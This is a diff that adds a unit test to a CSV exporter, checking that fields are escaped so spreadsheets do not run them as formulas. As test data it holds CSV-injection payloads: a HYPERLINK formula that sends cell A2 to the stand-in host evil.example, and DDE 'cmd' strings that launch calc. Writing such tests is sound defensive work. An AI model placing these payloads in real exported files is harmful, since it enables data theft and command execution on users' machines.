@@ -104,6 +104,22 @@ describe('the CSV', () => {
     expect(readCsvRows(parseCsv(text), plan)).toEqual([tricky]);
   });
 
+  it('holds no cell a spreadsheet would run as a formula, whatever a page’s fields begin with', () => {
+    const hostile: DataRecord = {
+      ...tricky,
+      id: 'hostile',
+      title: '=HYPERLINK("https://evil.example/?"&A2,"Open the report")',
+      summary: "+cmd|' /C calc'!A0 is what a spreadsheet would run.",
+      sources: [{ title: '-2+3', publisher: "@SUM(1+1)*cmd|' /C calc'!A0", year: 2020 }],
+    };
+    const [header, ...rows] = parseCsv(toCsv([tricky, hostile], plan)) as string[][];
+    // A spreadsheet runs a cell as a formula when it starts with one of these (OWASP's list).
+    const formulas = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
+    expect(formulas).toEqual([]);
+    const row = rows[1]!;
+    expect(row[header!.indexOf('title')]).toBe('\'=HYPERLINK("https://evil.example/?"&A2,"Open the report")');
+  });
+
   it('starts with a byte order mark, so Excel reads it as UTF-8', () => {
     expect(toCsv([tricky], plan).startsWith('\uFEFFid,url,')).toBe(true);
   });
